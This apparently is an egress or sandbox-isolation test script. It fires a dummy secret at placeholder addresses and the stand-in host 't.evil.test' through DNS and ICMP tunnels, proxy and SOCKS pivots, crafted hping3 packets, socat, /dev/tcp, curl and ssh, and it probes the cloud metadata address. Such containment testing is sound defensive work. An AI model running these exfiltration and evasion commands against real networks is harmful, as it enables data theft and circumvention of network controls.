# Everything at once, against an address, a name and a server of the world outside.
v4=198.51.100.66 v6=2001:db8:66::66 dns=203.0.113.53 name=t.evil.test
gateway=gateway.docker.internal port=3128
secret="secret-secret-secret"

try() {
  local tool=$1
  shift
  command -v "$tool" >/dev/null || { echo "missing $tool"; return; }
  { echo "$secret" | timeout -k 1 ${patience:-3} "$tool" "$@"; } >>"tools.log" 2>&1 &
}

for server in $v4 $dns $gateway; do
  for type in NULL TXT SRV MX CNAME A; do try iodine -f -r -P "$secret" -T $type $server $name; done
  try dns2tcpc -z $name -r ssh -l $((4000 + RANDOM % 1000)) -d 1 $server
  try dns2tcpc -z $name -r ssh -T TXT -l $((5000 + RANDOM % 1000)) $server
done
try ptunnel-ng -p$v4 -l6001 -r$v4 -R7000
try ptunnel-ng -p$v4 -l6002 -r$v4 -R7000 --udp
for local in 6001 6002; do try socat - TCP:127.0.0.1:$local,retry=20,interval=0.1; done

for target in $v4:7000 $v4:443 "[$v6]:7000" $name:22 $name:443 10.9.9.9:80 127.0.0.1:8000; do
  try proxytunnel -p $gateway:$port -d "$target"
  try proxytunnel -E -p $gateway:$port -d "$target"
  try corkscrew $gateway $port "${target%:*}" "${target##*:}"
  try nc -w 2 -X connect -x $gateway:$port "${target%:*}" "${target##*:}"
  try nc -w 2 -X 5 -x $gateway:$port "${target%:*}" "${target##*:}"
  try nc -w 2 -X 4 -x $gateway:$port "${target%:*}" "${target##*:}"
done

try hping3 -q -c 3 -i u1000 -1 -d 40 -e "$secret" $v4
try hping3 -q -c 3 -i u1000 -2 -p 443 -d 40 -e "$secret" $v4
try hping3 -q -c 3 -i u1000 -S -p 7000 $v4
try hping3 -q -c 3 -i u1000 -S -a 203.0.113.77 -p 7000 $v4
try hping3 -q -c 3 -i u1000 -0 -H 47 $v4
try hping3 -q -c 3 -i u1000 -1 --icmptype 13 $v4
try hping3 -q -c 3 -i u1000 -f -2 -p 53 -d 2000 $dns

for address in TCP4:$v4:7000 "TCP6:[$v6]:7000" UDP4:$v4:443 "UDP6:[$v6]:443" UDP4:$dns:53 UDP4-DATAGRAM:255.255.255.255:9,broadcast \
  UDP4-DATAGRAM:224.0.0.251:5353 "UDP6-DATAGRAM:[ff02::fb%lo]:5353" IP4-SENDTO:$v4:47 "IP6-SENDTO:[$v6]:47" SCTP4:$v4:7000 DCCP4:$v4:7000 \
  OPENSSL:$v4:443,verify=0 OPENSSL:$v4:443,verify=0,snihost=$name PROXY:$gateway:$v4:7000,proxyport=$port SOCKS4:$gateway:$v4:7000,socksport=$port \
  SOCKS4A:$gateway:$name:7000,socksport=$port UDP4:169.254.169.254:80 TCP4:169.254.169.254:80 TCP4:$v4:53 UDPLITE4:$v4:7000; do
  try socat -T 2 - "$address"
done

for kind in tcp udp; do
  for target in $v4/7000 $v4/443 $v6/7000 $dns/53 10.9.9.9/80; do
    { timeout -k 1 3 bash -c "exec 3<>/dev/$kind/$target && echo $secret >&3 && head -c 1 <&3"; } >>tools.log 2>&1 &
  done
done
try curl -sS -m 2 http://$v4/$secret
try curl -sS -m 2 -k --noproxy '*' https://$v4/$secret
try curl -sS -m 2 --noproxy '*' -H "Host: $name" http://$v4/$secret
try curl -sS -m 2 --noproxy '*' "http://[$v6]/$secret"
try curl -sS -m 2 --noproxy '*' http://$secret.$name/
try curl -sS -m 2 -k --resolve $name:443:$v4 --noproxy '*' https://$name/
try ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no $v4 true
for target in $v4 $v6 $name; do try gtlsclient -q --handshake-timeout=2s $target 443 "https://$target/$secret"; done
patience=15 try /usr/bin/python3 packets.py
wait
echo "tools tried"
